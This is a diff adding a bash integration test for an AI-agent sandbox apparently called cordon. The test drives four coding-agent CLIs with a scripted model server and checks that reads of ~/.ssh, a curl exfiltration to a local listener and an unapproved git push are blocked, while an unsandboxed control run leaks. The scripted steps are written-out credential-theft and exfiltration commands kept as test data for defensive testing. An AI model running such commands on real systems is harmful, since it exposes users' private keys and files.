@@ -1,0 +1,239 @@
+#!/bin/bash
+# The real agent CLIs under `cordon run` with the shipped default profile:
+# Claude Code, Codex CLI, Gemini CLI and OpenCode, installed from npm as
+# tests/agents/package-lock.json pins them (tools/mcp-deps agents), each
+# driven against a scripted model server of the project's
+# (tests/agents/model_server.py: TLS, streaming, each provider's wire
+# format and tool calls) that the session reaches through the credential
+# proxy, the model server standing in as the credential's gateway
+# (--upstream).  The model asks each CLI, through the CLI's own tools, to
+# list, read, edit, build and run code, read ~/.ssh, send a file to a
+# listener and git push; what each tool really returned is recorded by the
+# model server and judged here, each as its own row.  The same CLI run
+# without cordon is the negative control: there the key is read and the
+# listener receives.  A second run approves the push.
+#
+# tests/agents/cli_NAME.sh define NAME_run (under cordon) and NAME_bare.
+set -uo pipefail
+here=${CORDON_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
+. "$here/tests/lib.sh"
+. "$here/tests/lib_run.sh"
+. "$here/tests/lib_net.sh"
+net_needs
+[ "$(id -u)" -eq 0 ] || skip_all "needs root (cordon run)"
+[ "$(uname -m)" = x86_64 ] || skip_all "the pinned agent CLIs are x86_64 builds"
+command -v node >/dev/null || skip_all "needs node (Gemini CLI, Codex's launcher)"
+command -v git >/dev/null || skip_all "needs git"
+command -v cc >/dev/null || skip_all "needs a C compiler (the agents build code)"
+agent_user || skip_all "needs an agent user"
+unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY no_proxy NO_PROXY ALL_PROXY all_proxy
+
+# The CLIs where the profile lets the agent execute (/opt): hard links of
+# the pinned install, or the guest's copy in the VM.
+if [ -n "${CORDON_AGENTS_DIR:-}" ]; then
+    AGENTS=$CORDON_AGENTS_DIR
+else
+    "$here/tools/mcp-deps" agents || { echo "Bail out! the agent CLIs (tools/mcp-deps agents) did not install"; exit 1; }
+    inst=$(mktemp -d /opt/cordon-agents.XXXXXX)
+    cp -al "$here/tests/agents/node_modules" "$inst/node_modules" 2>/dev/null ||
+        cp -a "$here/tests/agents/node_modules" "$inst/node_modules"
+    chmod 0755 "$inst"
+    AGENTS=$inst/node_modules
+fi
+export AGENTS
+
+t=$(mktemp -d /var/cordon-agents.XXXXXX)
+chmod 0755 "$t"
+pids=
+key_made=
+cleanup() {
+    kill $pids 2>/dev/null
+    [ -n "$key_made" ] && rm -f "$key_made"
+    [ -n "${KEEP:-}" ] || rm -rf "$t" ${inst:+"$inst"} ${WS:+"$WS"}
+}
+trap cleanup EXIT
+net_test_ca "$t" || { echo "Bail out! the test CA: $(tail -n 1 "$t/ca.err")"; exit 1; }
+chmod 0644 "$t/ca.pem"
+
+# A key the agent must never read: in its user's real home.
+KEYMARK=cordon-agents-ssh-$(head -c 9 /dev/urandom | od -An -tx1 | tr -d ' \n')
+if [ ! -e "$AGENT_HOME/.ssh/id_ed25519" ]; then
+    mkdir -p "$AGENT_HOME/.ssh"
+    chown "$AGENT" "$AGENT_HOME" "$AGENT_HOME/.ssh"
+    chmod 0700 "$AGENT_HOME/.ssh"
+    printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\n%s\n-----END OPENSSH PRIVATE KEY-----\n' "$KEYMARK" \
+        >"$AGENT_HOME/.ssh/id_ed25519"
+    chown "$AGENT" "$AGENT_HOME/.ssh/id_ed25519"
+    chmod 0600 "$AGENT_HOME/.ssh/id_ed25519"
+    key_made=$AGENT_HOME/.ssh/id_ed25519
+else
+    KEYMARK=$(sed -n 2p "$AGENT_HOME/.ssh/id_ed25519")
+fi
+
+# The listener an exfiltration would reach: it records every byte.
+"$py" -c '
+import socket, sys, threading
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("127.0.0.1", 0)); s.listen(16)
+open(sys.argv[1] + ".port", "w").write(str(s.getsockname()[1]))
+def serve(c):
+    with c:
+        c.settimeout(5)
+        try:
+            d = c.recv(65536)
+        except OSError:
+            d = b""
+        open(sys.argv[1], "ab").write(b"connection: " + d + b"\n")
+        try:
+            c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
+        except OSError:
+            pass
+while True:
+    c, _ = s.accept(); threading.Thread(target=serve, args=(c,), daemon=True).start()
+' "$t/listener" & pids="$pids $!"
+for _ in $(seq 100); do [ -s "$t/listener.port" ] && break; sleep 0.05; done
+LPORT=$(cat "$t/listener.port")
+
+# The real keys, for the credential proxy to swap in: never seen inside.
+REAL=sk-cordon-real-$(head -c 18 /dev/urandom | base64 | tr '+/' '-_')
+export ANTHROPIC_API_KEY=$REAL OPENAI_API_KEY=$REAL GEMINI_API_KEY=$REAL
+
+PROMPT="Follow the script: run each tool call you are given, then stop."
+export PROMPT
+
+# model_server DIR SCRIPT: a model server in DIR (the test CA's server
+# key), its URL in $MODEL_URL.
+model_server() {
+    mkdir -p "$1"
+    cp "$t/server.pem" "$t/server.key" "$t/ca.pem" "$1/"
+    "$py" "$here/tests/agents/model_server.py" "$1" "$2" 2>"$1/server.err" & pids="$pids $!"
+    for _ in $(seq 100); do [ -e "$1/port" ] && break; sleep 0.05; done
+    MODEL_URL=https://localhost:$(cat "$1/port")
+    export MODEL_URL
+}
+
+# workspace: a C project in a git repository whose remote is a bare
+# repository beside it (a push lands there only if it happens).
+workspace() {
+    WS=$(mktemp -d /var/tmp/cordon-agents-ws.XXXXXX)
+    # In the workspace: a local path outside it is neither in the session's
+    # view nor writable there, whatever a human approves.
+    REMOTE=$WS/remote.git
+    printf 'int puts(const char *);\n/* cordon-read-marker */\nint main(void) { puts("hello"); return 0; }\n' >"$WS/hello.c"
+    git init -q -b main "$WS" && git -C "$WS" add hello.c &&
+        git -C "$WS" -c user.name=t -c user.email=t@t commit -qm init &&
+        git init -q --bare -b main "$REMOTE" && git -C "$WS" remote add origin "$REMOTE" &&
+        git -C "$WS" push -q origin main 2>/dev/null
+    chown -R "$AGENT" "$WS" "$REMOTE"
+    chmod 0755 "$WS"
+    export WS
+}
+
+# The script: the same steps for every CLI.
+cat >"$t/script.json" <<EOF
+{ "steps": [
+    { "shell": "ls" },
+    { "shell": "cat hello.c" },
+    { "write": { "path": "@WS@/hello.c", "content": "int puts(const char *);\nint main(void) { puts(\"cordon-ok\"); return 0; }\n" } },
+    { "shell": "cc -o hello hello.c && ./hello" },
+    { "shell": "cat ~/.ssh/id_ed25519; echo rc=\$?" },
+    { "shell": "curl -s -m 5 --data-binary @hello.c http://127.0.0.1:$LPORT/ ; echo rc=\$?" },
+    { "shell": "git commit -qam edit; git push origin main; echo rc=\$?" }
+  ],
+  "final": "cordon-agents-done" }
+EOF
+cat >"$t/push.json" <<EOF
+{ "steps": [ { "shell": "git commit -qam again --allow-empty; git push origin main; echo rc=\$?" } ],
+  "final": "cordon-agents-done" }
+EOF
+
+# result DIR N: what step N's tool returned (empty if it never ran).
+result() {
+    "$py" -c '
+import json, sys
+for l in open(sys.argv[1] + "/results.jsonl"):
+    r = json.loads(l)
+    if r["step"] == int(sys.argv[2]):
+        print(r["output"] if isinstance(r["output"], str) else json.dumps(r["output"]))
+' "$1" "$2" 2>/dev/null
+}
+has() { printf '%s' "$1" | grep -qF -- "$2"; }
+
+# approver: approve whatever this session holds, until it ends.
+approver() {
+    while kill -0 "$1" 2>/dev/null; do
+        for id in $("$cordon" pending 2>/dev/null | awk '/^s[0-9a-f]+:[0-9]+/ { print $1 }'); do
+            "$cordon" approve "$id" >/dev/null 2>&1
+        done
+        sleep 0.2
+    done
+}
+
+for cli in claude codex gemini opencode; do
+    case $cli in
+    claude) cred=anthropic ;;
+    gemini) cred=gemini ;;
+    *) cred=openai ;;
+    esac
+    if [ ! -r "$here/tests/agents/cli_$cli.sh" ]; then
+        skip "$cli: no driver (tests/agents/cli_$cli.sh)"
+        continue
+    fi
+    . "$here/tests/agents/cli_$cli.sh"
+    d=$t/$cli
+    mkdir -p "$d"
+
+    # The negative control: the same CLI and script, without cordon.
+    workspace
+    sed "s|@WS@|$WS|" "$t/script.json" >"$d/script.json"
+    model_server "$d/bare" "$d/script.json"
+    : >"$t/listener"
+    (cd "$WS" && ${cli}_bare) >"$d/bare.out" 2>&1
+    ok "$cli without cordon (control): the key is read and the listener receives" \
+        sh -c "grep -qF '$KEYMARK' '$d/bare/results.jsonl' && grep -q cordon-ok '$t/listener'"
+    rm -rf "$WS"
+
+    # Under cordon: the shipped profile, the model as the credential's gateway.
+    workspace
+    sed "s|@WS@|$WS|" "$t/script.json" >"$d/script.json"
+    model_server "$d/run" "$d/script.json"
+    : >"$t/listener"
+    "$cordon" home discard --user "$AGENT" >/dev/null 2>&1
+    audit=$d/run.jsonl
+    (cd "$WS" && ${cli}_run --user "$AGENT" --workspace "$WS" --audit "$audit" --approve deny \
+        --upstream "$cred=$MODEL_URL" --upstream-ca "$t/ca.pem") >"$d/run.out" 2>&1
+    rc=$?
+    f0=${_failed:-0}
+    r0=$(result "$d/run" 0); r1=$(result "$d/run" 1); r3=$(result "$d/run" 3)
+    r4=$(result "$d/run" 4); r6=$(result "$d/run" 6)
+    ok "$cli under cordon: lists the workspace" has "$r0" hello.c
+    ok "$cli under cordon: reads a file" has "$r1" cordon-read-marker
+    ok "$cli under cordon: edits a file with its own tool" grep -q cordon-ok "$WS/hello.c"
+    ok "$cli under cordon: builds and runs code" has "$r3" cordon-ok
+    ok "$cli under cordon: ~/.ssh is refused" sh -c "[ -n \"\$1\" ] && ! printf '%s' \"\$1\" | grep -qF '$KEYMARK' && ! grep -qF '$KEYMARK' '$d/run/requests.jsonl'" _ "$r4"
+    ok "$cli under cordon: an exfiltration reaches nothing" sh -c "[ -n \"\$1\" ] && [ ! -s '$t/listener' ]" _ "$(result "$d/run" 5)"
+    ok "$cli under cordon: git push is held for a human, and denied" \
+        sh -c "[ -n \"\$1\" ] && grep '\"git.push\"' '$audit' | grep -q '\"decision\":\"deny\"' && [ \$(git -C '$REMOTE' rev-list --count main) -eq 1 ]" _ "$r6"
+    ok "$cli under cordon: the agent is told a human declined" has "$r6" "declined"
+    ok "$cli under cordon: the CLI finished the script (status $rc)" \
+        sh -c "[ $rc -eq 0 ] && grep -q cordon-agents-done '$d/run.out'"
+    ok "$cli under cordon: the real key never entered the session" \
+        sh -c "! grep -qF '$REAL' '$d/run/results.jsonl' '$d/run.out' && grep -qF '$REAL' '$d/run/requests.jsonl'"
+
+    # What the CLI and cordon said, when a row failed.
+    [ "${_failed:-0}" -eq "$f0" ] || tail -n 12 "$d/run.out" | sed "s/^/# $cli: /"
+
+    # Another run: the push approved reaches its remote.
+    model_server "$d/push" "$t/push.json"
+    audit=$d/push.jsonl
+    (cd "$WS" && ${cli}_run --user "$AGENT" --workspace "$WS" --audit "$audit" --approve socket \
+        --upstream "$cred=$MODEL_URL" --upstream-ca "$t/ca.pem") >"$d/push.out" 2>&1 &
+    run=$!
+    approver $run & apid=$!
+    wait $run
+    kill $apid 2>/dev/null; wait $apid 2>/dev/null
+    ok "$cli under cordon: an approved git push reaches its remote (a path in the workspace)" \
+        sh -c "grep '\"git.push\"' '$audit' | grep -q '\"decision\":\"allow\"' && [ \$(git -C '$REMOTE' rev-list --count main) -ge 2 ]"
+    rm -rf "$WS"
+done
+done_testing
